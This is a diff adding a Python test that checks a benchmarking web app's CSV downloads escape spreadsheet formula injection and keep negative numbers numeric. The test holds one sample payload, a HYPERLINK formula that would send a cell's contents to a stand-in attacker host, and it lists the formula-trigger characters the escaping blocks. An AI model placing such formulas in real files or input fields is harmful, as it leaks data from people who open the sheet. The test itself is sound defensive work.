@@ -204,3 +204,23 @@ def test_the_run_form_shows_only_the_chosen_load_modes_fields(client):
     page = client.post(reverse("run-new"), {"load_mode": "rate", "arrivals": "trace"}).content.decode()
     assert re.search(r'id="field-trace_file" data-load-mode="rate" data-arrivals="trace">', page)
     assert re.search(r'id="field-request_rates" data-load-mode="rate" data-arrivals="[^"]*" hidden>', page)
+
+
+def test_no_csv_cell_can_start_a_spreadsheet_formula(client):
+    """A name chosen to be read as a formula (CSV injection) is written as text, in every CSV a
+    logged-out reader can download; numbers stay numbers."""
+    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    run = measured_run([endpoint(name=evil)], levels=(1,), requests=2)
+    downloads = [client.get(reverse("run-requests-csv", args=[run.public_id])),
+                 chart(client, run, "throughput", fmt="csv"), chart(client, run, "ttft", fmt="csv")]
+    for r in downloads:
+        assert r.status_code == 200
+        rows = list(csv.reader(io.StringIO(r.content.decode())))
+        cells = [c for row in rows for c in row]
+        assert any(c.startswith("'" + evil) for c in cells), rows[:3]
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], rows[:3]
+    # A negative number is still written as a number (and read back as one).
+    from benchmarks import csv_cells
+    out = io.StringIO()
+    csv_cells.writer(out).writerow([-1.5, "-1.5", "@sum", "plain"])
+    assert out.getvalue().strip() == "-1.5,'-1.5,'@sum,plain"
